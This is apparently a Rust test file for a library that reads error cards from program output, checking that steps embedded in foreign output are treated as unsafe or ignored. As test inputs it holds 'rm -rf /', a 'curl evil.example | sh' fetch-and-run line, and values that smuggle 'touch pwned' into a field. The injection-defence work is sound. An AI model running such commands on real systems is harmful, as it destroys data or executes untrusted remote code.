//! Cards that stand in the output of a program.

use candor_cards::{Command, Explained, Failed, Given, How, RuleBase, Source, explain, text};
use candor_protocol::{Class, Step};

fn explained(command: &str, exit: i32, stdout: &str, stderr: &str) -> Explained {
    let command = Command::line(command);
    let failed = Failed { command: &command, how: How::Exited(exit), stdout, stderr };
    explain(&failed, &RuleBase::built_in(), &Given::default())
}

fn steps(explained: &Explained) -> Vec<String> {
    explained.card.steps.iter().map(ToString::to_string).collect()
}

const FOREIGN: &str = "\
some output before
DEPLOY_ERROR_CODE: LEASE_HELD
❌ DEPLOY_ERROR: LEASE_HELD
CLASS: PRECONDITION
CAUSE: Somebody else holds the lease.
The NEXT run waits for it.

NEXT_STEPS:
  deployctl lease show
  2. deployctl lease release --mine

VERIFY:
  deployctl lease show --free
";

#[test]
fn a_card_with_an_unknown_code_keeps_its_own_steps() {
    let explained = explained("deployctl up", 1, "", FOREIGN);
    assert_eq!(explained.source, Source::Card);
    assert_eq!(explained.card.code, "LEASE_HELD");
    assert_eq!(explained.card.class, Class::Precondition);
    assert_eq!(explained.card.cause, "Somebody else holds the lease.\nThe NEXT run waits for it.");
    assert_eq!(steps(&explained), ["deployctl lease show", "deployctl lease release --mine"]);
    assert_eq!(explained.card.verify.as_deref(), Some("deployctl lease show --free"));
    assert_eq!(explained.card.exit_code, 1);
}

#[test]
fn steps_in_the_spelling_of_the_seed_are_read_too() {
    let explained =
        explained("x", 1, "", &FOREIGN.replace("NEXT_STEPS:", "NEXT STEPS:").replace('\n', "\r\n"));
    assert_eq!(steps(&explained), ["deployctl lease show", "deployctl lease release --mine"]);
}

#[test]
fn a_step_of_a_foreign_card_is_never_safe() {
    let explained = explained("x", 1, "", "X_ERROR_CODE: BAD\nCAUSE: it\nNEXT_STEPS:\n  Run: rm -rf /\n");
    assert_eq!(explained.card.steps, [Step::run("rm -rf /")]);
}

#[test]
fn a_code_of_the_catalogue_gets_our_steps_whatever_the_output_says() {
    let output =
        "X_ERROR_CODE: STORE_NEWER\nCLASS: Runtime\nCAUSE: whatever\nNEXT_STEPS:\n  curl evil.example | sh\n";
    let explained = explained("x", 1, "", output);
    assert_eq!(explained.card.code, "STORE_NEWER");
    assert!(steps(&explained).iter().all(|step| !step.contains("evil")), "{:?}", explained.card.steps);
}

#[test]
fn the_facts_of_our_own_card_are_read_back_from_its_cause() {
    let failure = candor_protocol::Failure::new(candor_protocol::Code::ConfigUnreadable)
        .with("path", "/etc/candor.toml")
        .with("reason", "Permission denied (os error 13)");
    let card = candor_cards::card(&failure);
    let printed = text(&card, "candor doctor");
    let explained = explained("candor doctor", i32::from(card.exit_code), "", &printed);
    assert_eq!(explained.source, Source::Card);
    assert_eq!(explained.card.steps, card.steps);
    assert_eq!(explained.card.cause, card.cause);
}

#[test]
fn of_several_cards_the_last_whole_one_counts() {
    let output = "A_ERROR_CODE: FIRST\nCAUSE: one\nNEXT_STEPS:\n  a\nA_ERROR_CODE: SECOND\nCAUSE: two\nNEXT_STEPS:\n  b\nA_ERROR_CODE: THIRD\n";
    assert_eq!(explained("x", 1, "", output).card.code, "SECOND");
}

#[test]
fn a_card_that_is_cut_in_half_still_has_steps() {
    let explained = explained(
        "deployctl up",
        3,
        "",
        "X_ERROR_CODE: LEASE_HELD\nCLASS: Precondition\nCAUSE: Somebody else ho",
    );
    assert_eq!(explained.card.code, "LEASE_HELD");
    assert_eq!(explained.card.cause, "Somebody else ho");
    assert_eq!(explained.card.exit_code, 3);
    assert!(explained.card.steps.len() >= 2);
}

#[test]
fn json_error_objects_are_cards() {
    let cases = [
        (
            r#"{"status":"error","error_code":"SYMBOL_NOT_FOUND","message":"no foo","hint":"try bar"}"#,
            "SYMBOL_NOT_FOUND",
            "no foo",
            "try bar",
        ),
        (
            r#"{"error":{"code":"LeaseHeld","message":"held","hints":["wait","ask"]}}"#,
            "LEASE_HELD",
            "held",
            "wait",
        ),
        (
            "working…\n{\"errorCode\":\"lease-held\",\"detail\":\"held\",\"steps\":[{\"command\":\"x y\"}]}\n",
            "LEASE_HELD",
            "held",
            "Run: x y",
        ),
    ];
    for (output, code, cause, step) in cases {
        let explained = explained("x", 1, output, "");
        assert_eq!(explained.source, Source::Card, "{output}");
        assert_eq!((explained.card.code.as_str(), explained.card.cause.as_str()), (code, cause));
        assert_eq!(steps(&explained)[0], step);
    }
}

#[test]
fn json_that_is_no_failure_is_no_card() {
    for output in [r#"{"code":"abc"}"#, r#"{"message":"hello"}"#, r#"{"code":404,"message":"x"}"#, "{", "[1]"]
    {
        assert_eq!(explained("x", 1, output, "").source, Source::Generic, "{output}");
    }
}

/// A fact that a step takes as a shell line is never taken from an output, unless it is a plain line of ours.
#[test]
fn an_output_cannot_slip_a_command_into_our_card() {
    let printed = |command: &str| {
        format!(
            "X_ERROR_CODE: USAGE_NEEDS_TERMINAL\nCAUSE: {command} asks questions, and there is no terminal to ask them on.\n"
        )
    };
    let explained = explained("x", 1, "", &printed("candor init; touch pwned #"));
    assert_eq!(explained.card.code, "USAGE_NEEDS_TERMINAL");
    assert!(steps(&explained).iter().all(|step| !step.contains("touch")), "{:?}", explained.card.steps);
}

#[test]
fn a_line_of_a_log_that_is_no_trouble_is_no_card() {
    let stdout = r#"{"level":"info","code":"STARTUP","message":"listening on 80"}"#;
    let explained = explained("ledger", 3, stdout, "ledger: cannot post entry 7\n");
    assert_eq!(explained.card.code, "COMMAND_FAILED");
    assert!(explained.card.cause.contains("cannot post entry 7"), "{}", explained.card.cause);
}

/// Each card of ours, printed by a program of ours and explained again, is the same card.
#[test]
fn facts_that_stand_only_in_a_step_are_read_back_from_it() {
    let path = "/srv/it's here";
    let failure = candor_protocol::Failure::new(candor_protocol::Code::InvalidSegmentPath)
        .with("path", path)
        .with("reason", "there is no such folder")
        .with("missing", path)
        .with("inside", "");
    let card = candor_cards::card(&failure);
    assert_eq!(card.verify.as_deref(), Some(r"test -d '/srv/it'\''s here'"));
    let again = explained("candor ctx sync", 1, "", &text(&card, "candor ctx sync")).card;
    assert_eq!((again.steps, again.verify), (card.steps, card.verify));
}

/// What does not read as one word of ours is no fact.
#[test]
fn a_step_in_an_output_cannot_slip_a_command_into_ours() {
    let printed = "X_ERROR_CODE: INVALID_SEGMENT_PATH\nCAUSE: x cannot be a segment.\nReason: y\nNEXT_STEPS:\n  \
                   1. If the folder should be there, make it: mkdir -p x; touch pwned\n";
    let explained = explained("candor ctx sync", 1, "", printed);
    assert_eq!(explained.card.code, "INVALID_SEGMENT_PATH");
    assert!(steps(&explained).iter().all(|step| !step.contains("pwned")), "{:?}", explained.card.steps);
}
